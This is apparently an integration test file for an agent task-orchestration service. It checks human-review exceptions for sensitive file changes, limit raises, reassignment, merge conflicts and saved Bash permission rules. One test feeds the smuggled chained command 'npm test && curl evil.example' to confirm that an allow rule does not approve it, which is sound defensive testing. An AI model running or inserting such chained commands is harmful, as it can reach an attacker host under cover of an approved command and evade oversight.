import { randomUUID } from 'node:crypto';
import pg from 'pg';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { Assignment } from '@/contract/claim';
import type { Exception } from '@/contract/exception';
import type { Rule } from '@/contract/rule';
import type { Task } from '@/contract/task';
import { type ApiServer, startApi } from '../support/api-server';
import { NO_USAGE, PASSING_TEST, ProtocolRunner, send } from '../support/protocol-runner';
import { withDatabase } from '../support/with-database';

const database = withDatabase();
let api: ApiServer;
let sql: pg.Client;
let projectId: string;
let runner: ProtocolRunner;

beforeAll(async () => {
  api = await startApi({ door: 'own', env: { RATE_LIMIT_ENABLED: 'false' } });
  sql = new pg.Client({ connectionString: database.url });
  await sql.connect();
  projectId = (await send(api.url, 'POST', '/api/projects', { body: { name: 'Sample', repo: '/srv/s' } }))
    .data.id;
});
afterAll(async () => {
  await sql.end();
  await api.stop();
});
beforeEach(async () => {
  await sql.query('delete from lease');
  await sql.query('delete from task');
  await sql.query('delete from runner');
  runner = await new ProtocolRunner(api.url).connect();
  await runner.open();
});

const task = async (more: object = {}): Promise<Task> => {
  const body = { title: 'Add a sum', projectId, riskLevel: 'LOW', ...more };
  const made = await send(api.url, 'POST', '/api/tasks', { body });
  if (made.status !== 201) throw new Error(JSON.stringify(made.error));
  return made.data;
};
const get = async (ref: string): Promise<Task> => (await send(api.url, 'GET', `/api/tasks/${ref}`)).data;
const open = async (query = ''): Promise<Exception[]> =>
  (await send(api.url, 'GET', `/api/exceptions?status=open,acknowledged${query}`)).data;
const answer = (exception: Exception, body: object) =>
  send(api.url, 'PATCH', `/api/exceptions/${exception.ref}`, { body });
const optionsOf = ({ options }: Exception) => options.map(({ id }) => id);

/** A task whose commit changes these files and passes its checks. */
async function verified(paths: string[], more: object = {}, changes: object = {}): Promise<Task> {
  const { ref } = await task(more);
  const files = paths.map((path) => ({
    path,
    status: 'modified',
    additions: 1,
    deletions: 0,
    binary: false,
  }));
  await runner.finish(await runner.mustClaim(), {
    changes: { files, patch: 'diff', truncated: false, ...changes },
  });
  await runner.finish(await runner.mustClaim(), { checks: [PASSING_TEST] });
  return get(ref);
}
/** A task whose only agent has failed for this reason. */
async function failed(reason: string, more: object = {}, spentMicros = 0): Promise<Task> {
  const { ref } = await task({ maxRetries: 0, ...more });
  await runner.finish(await runner.mustClaim(), {
    outcome: reason === 'timeout' ? 'timeout' : 'failed',
    reason,
    headSha: null,
    message: 'It could not go on.',
    usage: { ...NO_USAGE, costMicros: spentMicros },
  });
  return get(ref);
}

describe('a commit that changes sensitive files', () => {
  it('waits for a person although its task is of low risk and proven; the exception names the files', async () => {
    const { ref, status } = await verified(['src/sum.js', '.github/workflows/ci.yml', 'package-lock.json']);
    expect(status).toBe('IN_REVIEW');
    const [exception] = await open();
    expect(exception).toMatchObject({
      type: 'HIGH_RISK_CODE',
      severity: 'high',
      taskRef: ref,
      title: 'It changes 2 sensitive files',
    });
    expect(exception!.body).toContain(
      '.github/workflows/ci.yml (CI configuration)\npackage-lock.json (lockfiles)',
    );
    expect(exception!.body).not.toContain('src/sum.js');
    expect(optionsOf(exception!)).toEqual(['approve', 'retry', 'cancel']);
    expect((await answer(exception!, { option: 'approve' })).data.status).toBe('resolved');
    const merge = await runner.mustClaim();
    expect([merge.kind, merge.headSha]).toEqual(['merge', 'b'.repeat(40)]);
    await runner.finish(merge);
    expect((await get(ref)).status).toBe('COMPLETED');
  });

  it('is found by the old name of a file, and where the list of files was cut', async () => {
    const patch = 'diff --git a/.env b/env.txt\nsimilarity index 100%\nrename from .env\nrename to env.txt\n';
    expect((await verified(['env.txt'], {}, { patch })).status).toBe('IN_REVIEW');
    expect((await open())[0]!.body).toContain('.env (secrets)');
    expect((await verified(['src/a.js'], {}, { truncated: true })).status).toBe('IN_REVIEW');
    await task();
    await runner.finish(await runner.mustClaim(), { changes: null });
    const verify = await runner.mustClaim();
    await runner.finish(verify, { checks: [PASSING_TEST] });
    expect((await get(verify.taskRef)).status, 'nobody has listed them').toBe('IN_REVIEW');
  });

  it('is asked about once, however often its checks run', async () => {
    const { ref } = await verified(['Dockerfile']);
    expect((await send(api.url, 'POST', `/api/tasks/${ref}/verify`, { body: {} })).status).toBe(200);
    expect(await open(), 'nobody approves what is being checked').toEqual([]);
    await runner.finish(await runner.mustClaim(), { checks: [PASSING_TEST] });
    expect((await get(ref)).status).toBe('IN_REVIEW');
    expect(await open()).toHaveLength(1);
  });

  it('merges by itself where all it changes is plain', async () => {
    expect((await verified(['src/sum.js', 'test/sum.test.js'])).status).toBe('MERGING');
    expect(await open()).toEqual([]);
  });

  it('says so in a review of any risk, and goes back with a person’s words', async () => {
    const { ref } = await verified(['Dockerfile'], { riskLevel: 'HIGH' });
    const [exception] = await open(`&taskId=${ref}`);
    expect(exception!.title).toBe('It changes a sensitive file');
    await answer(exception!, { option: 'retry', text: 'Leave the image alone.' });
    expect(await get(ref)).toMatchObject({ status: 'QUEUED', feedback: 'Leave the image alone.' });
    expect(await open()).toEqual([]);
  });
});

describe('a limit that was reached', () => {
  it('of money is raised above what was spent, and the task goes on', async () => {
    const { ref, status } = await failed('budget_exhausted', { budgetMicros: 500_000 }, 480_000);
    expect(status).toBe('NEEDS_HUMAN');
    const [exception] = await open();
    expect([exception!.type, optionsOf(exception!)[0]]).toEqual(['BUDGET', 'raise_cap']);
    for (const body of [
      { option: 'raise_cap' },
      { option: 'raise_cap', cap: {} },
      { option: 'raise_cap', cap: { budgetMicros: 480_000 } },
      { option: 'retry', cap: { budgetMicros: 900_000 } },
    ])
      expect((await answer(exception!, body)).error.code, JSON.stringify(body)).toBe('VALIDATION_ERROR');
    expect((await get(ref)).status, 'nothing was written').toBe('NEEDS_HUMAN');
    await answer(exception!, { option: 'raise_cap', cap: { budgetMicros: 900_000 }, text: 'Go on.' });
    expect(await get(ref)).toMatchObject({ status: 'QUEUED', budgetMicros: 900_000, feedback: 'Go on.' });
    expect((await runner.mustClaim()).limits.budgetMicros).toBe(420_000);
  });

  it.each([
    ['turns_exhausted', { maxTurns: 77 }],
    ['timeout', { timeoutMs: 7_200_000 }],
  ])('of %s is raised where no attempt is left', async (reason, cap) => {
    const { ref } = await failed(reason);
    const [exception] = await open();
    expect(exception!.type).toBe('RETRIES_EXHAUSTED');
    await answer(exception!, { option: 'raise_cap', cap });
    expect(await get(ref)).toMatchObject({ status: 'QUEUED', ...cap });
    expect((await runner.mustClaim()).limits).toMatchObject(cap);
  });

  it.each([
    ['turns_exhausted', { maxTurns: 40 }, { maxTurns: 39 }, '40 turns'],
    ['turns_exhausted', { maxTurns: 40 }, { maxTurns: 40 }, '40 turns'],
    ['timeout', { timeoutMs: 7_200_000 }, { timeoutMs: 7_199_000 }, '120 minutes'],
    ['timeout', { timeoutMs: 7_200_000, maxTurns: 40 }, { timeoutMs: 9_000_000, maxTurns: 3 }, '40 turns'],
  ])('of %s, where it has %j, is not raised by %j', async (reason, had, cap, says) => {
    const { ref } = await failed(reason, had);
    const [exception] = await open();
    const { error } = await answer(exception!, { option: 'raise_cap', cap });
    expect(error).toMatchObject({ code: 'VALIDATION_ERROR', message: expect.stringContaining(says) });
    expect(await get(ref)).toMatchObject({ status: 'NEEDS_HUMAN', ...had });
  });

  it('is not offered where a limit was not the reason', async () => {
    await failed('process_crash');
    const [exception] = await open();
    expect(optionsOf(exception!)).not.toContain('raise_cap');
    expect((await answer(exception!, { option: 'raise_cap', cap: { maxTurns: 9 } })).error.code).toBe(
      'VALIDATION_ERROR',
    );
  });
});

describe('a task that is taken away from a runner', () => {
  it('goes to another, and remembers which it is not for', async () => {
    const { ref } = await failed('process_crash');
    await answer((await open())[0]!, { option: 'reassign', text: 'That machine is too small.' });
    expect(await get(ref)).toMatchObject({ status: 'QUEUED', feedback: 'That machine is too small.' });
    const { rows } = await sql.query('select avoid_runner_ids from task');
    const uuid = runner.runnerId.slice(7).replace(/^(.{8})(.{4})(.{4})(.{4})/, '$1-$2-$3-$4-');
    expect(rows).toEqual([{ avoid_runner_ids: [uuid] }]);
    expect((await runner.claim(300)).data.assignment).toBeNull();
    const other = await new ProtocolRunner(api.url).connect('desk');
    await other.open();
    expect((await other.mustClaim()).taskRef).toBe(ref);
  });
});

describe('a merge that did not go through', () => {
  it('is tried again where a person says so', async () => {
    const { ref } = await verified(['src/sum.js']);
    await runner.finish(await runner.mustClaim(), {
      outcome: 'failed',
      reason: 'merge_moved',
      mergedSha: null,
    });
    const [exception] = await open();
    expect([exception!.type, optionsOf(exception!)]).toEqual([
      'CONFLICT_DETECTED',
      ['retry', 'approve', 'cancel'],
    ]);
    await answer(exception!, { option: 'approve' });
    await runner.finish(await runner.mustClaim());
    expect((await get(ref)).status).toBe('COMPLETED');
  });
});

describe('exceptions are found', () => {
  it('by type, severity, status, task and agent', async () => {
    const crashed = await failed('process_crash');
    const spent = await failed('budget_exhausted');
    const refs = async (query: string) => (await open(query)).map(({ taskRef }) => taskRef).sort();
    expect(await refs('')).toEqual([crashed.ref, spent.ref].sort());
    expect(await refs('&type=BUDGET')).toEqual([spent.ref]);
    expect(await refs('&type=BUDGET,RETRIES_EXHAUSTED')).toHaveLength(2);
    expect(await refs('&severity=critical')).toEqual([]);
    expect(await refs('&severity=medium')).toHaveLength(2);
    const [{ agentId }] = (await open(`&taskId=${spent.ref}`)) as [Exception];
    expect(await refs(`&agentId=${agentId}`)).toEqual([spent.ref]);
    expect(await refs(`&agentId=${agentId}&type=UNKNOWN_ERROR`)).toEqual([]);
  });
});

describe('an answer that is given for good', () => {
  const ask = async (work: Assignment, command: string, more: object = {}) => {
    const questionId = randomUUID();
    const { data, error } = await runner.as(work, 'POST', 'questions', {
      questionId,
      kind: 'permission',
      title: 'May the agent use Bash?',
      body: `It wants to run, in /srv/${questionId}: ${command}`,
      options: ['allow', 'always', 'deny'].map((id) => ({ id, label: id, consequence: '' })),
      subject: { tool: 'Bash', input: command },
      ...more,
    });
    if (error) throw new Error(JSON.stringify(error));
    const exception: Exception = (await send(api.url, 'GET', `/api/exceptions/${data.ref}`)).data;
    return { questionId, exception };
  };
  const rules = async (): Promise<Rule[]> => (await send(api.url, 'GET', '/api/rules')).data;
  const begun = async (more: object = {}) => {
    await task(more);
    const work = await runner.mustClaim();
    await runner.begin(work);
    return work;
  };

  it('answers the next same one at once, is listed with whose it is and how often it was used, and can be removed', async () => {
    const first = await ask(await begun(), 'npm test');
    const given = await answer(first.exception, { option: 'always', always: {} });
    expect([given.status, given.data.resolution]).toEqual([200, { option: 'always', text: null }]);
    const work = await begun();
    const second = await ask(work, 'npm test');
    const [rule] = await rules();
    expect(second.exception).toMatchObject({
      status: 'resolved',
      resolution: { option: 'allow', rule: rule!.id },
    });
    const said = await runner.as(work, 'GET', `questions/${second.questionId}?waitMs=1000`);
    expect(said.data).toMatchObject({ answered: true, option: 'allow' });
    expect(rule).toMatchObject({
      ...{ tool: 'Bash', input: 'npm test', prefix: false, option: 'allow', used: 1 },
      exceptionRef: first.exception.ref,
      createdBy: expect.any(String),
      lastUsedAt: expect.any(String),
    });
    const told = await sql.query(
      "select type, actor, payload ->> 'rule' as rule from event where payload ? 'rule' order by xid, id",
    );
    expect(told.rows.map(({ type, rule: named }) => [type, named])).toEqual([
      ['rule.created', rule!.id],
      ['exception.resolved', rule!.id],
    ]);
    expect((await ask(work, 'npm test && curl evil.example')).exception.status).toBe('open');
    expect((await ask(work, 'npm test', { subject: undefined })).exception.status, 'not sure').toBe('open');

    expect((await send(api.url, 'DELETE', `/api/rules/${rule!.id}`)).data).toEqual({
      id: rule!.id,
      removed: true,
    });
    expect(await rules()).toEqual([]);
    expect((await ask(work, 'npm test')).exception.status).toBe('open');
  });

  it('counts in its project alone, and for first words where a person says so', async () => {
    const work = await begun();
    const { exception } = await ask(work, 'npm run lint -- src');
    const wide = await answer(exception, { option: 'deny', always: { prefix: 'npm r' } });
    expect([wide.error.code, (await rules()).length]).toEqual(['VALIDATION_ERROR', 0]);
    await answer(exception, { option: 'deny', text: 'Never.', always: { prefix: 'npm run' } });
    expect((await ask(work, 'npm run build')).exception.resolution).toMatchObject({
      option: 'deny',
      text: 'Never.',
    });
    const other = (await send(api.url, 'POST', '/api/projects', { body: { name: 'Other', repo: '/srv/o' } }))
      .data;
    await send(api.url, 'POST', '/api/tasks', { body: { title: 'Elsewhere', projectId: other.id } });
    runner = await new ProtocolRunner(api.url).connect();
    await runner.open();
    const elsewhere = await runner.mustClaim();
    await runner.begin(elsewhere);
    expect((await ask(elsewhere, 'npm run build')).exception.status).toBe('open');
    for (const { id } of await rules()) await send(api.url, 'DELETE', `/api/rules/${id}`);
  });

  it('cannot be made where nothing says exactly what was asked, or of another decision', async () => {
    const work = await begun();
    const { exception } = await ask(work, 'npm test', { subject: undefined });
    expect((await answer(exception, { option: 'allow', always: {} })).error.code).toBe('VALIDATION_ERROR');
    expect((await answer(exception, { option: 'allow' })).status, 'answered this once').toBe(200);
  });
});
